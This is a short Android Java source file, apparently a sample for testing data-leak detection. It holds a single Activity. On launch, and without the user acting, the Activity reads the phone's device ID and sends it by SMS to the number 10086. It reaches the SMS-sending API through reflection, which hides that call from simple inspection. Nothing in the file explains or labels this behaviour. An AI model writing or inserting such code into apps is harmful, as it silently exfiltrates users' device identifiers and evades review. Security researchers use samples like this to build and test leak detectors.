package org.consentry.flow.reflection.platformmessage;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.lang.reflect.Method;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            Class<?> type = Class.forName("android.telephony.SmsManager");
            Object messages = type.getMethod("getDefault").invoke(null);
            Method send = type.getMethod("sendTextMessage", String.class, String.class, String.class,
                    android.app.PendingIntent.class, android.app.PendingIntent.class);
            String text = phone.getDeviceId();
            send.invoke(messages, "10086", null, text, null, null);
        } catch (ReflectiveOperationException problem) {
            Log.w("flow", "missing");
        }
    }
}
